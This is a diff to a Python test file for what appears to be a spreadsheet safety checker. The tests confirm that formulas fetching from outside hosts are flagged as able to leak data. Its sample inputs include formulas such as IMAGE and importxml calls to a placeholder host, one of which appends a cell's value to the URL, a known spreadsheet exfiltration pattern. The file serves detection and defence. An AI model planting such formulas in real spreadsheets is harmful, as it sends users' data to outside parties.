@@ -73,16 +73,21 @@ def test_a_run_at_work_is_named(filled: Place) -> None:
         assert _levels(filled.json("doctor"))["lock"] == "warn"
 
 
-def test_formulas_that_fetch_are_found_and_others_are_not() -> None:
-    rows: list[Row] = [
-        ["Name", "Notes"],
-        ["Ada", Formula('=importxml("http://x","//a")')],
-        ["Ben", Formula("=SUM(1)")],
-    ]
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=importxml("http://x","//a")',
+        '=IF(A1;IMAGE("http://x"&B1);"")',
+        '=IMPORTRANGE("x","A:A")',
+        "=WEBSERVICE(A1)",
+    ],
+)
+def test_formulas_that_fetch_are_found_and_others_are_not(text: str) -> None:
+    rows: list[Row] = [["Name", "Notes"], ["Ada", Formula(text)], ["Ben", Formula("=SUM(1)")]]
     tabs = (RawTab("1", "Contacts", rows), RawTab("2", "Other", [[Formula('=IMAGE("x")')]]))
     found = list(checks.check_formulas(Workbook(tabs), ["1"]))
     assert [(one.level, one.meaning) for one in found] == [
-        ("warn", "1 formulas fetch from elsewhere and could send your data there: Contacts B2.")
+        ("warn", "1 formula fetches from elsewhere and could send your data there: Contacts B2.")
     ]
 
 
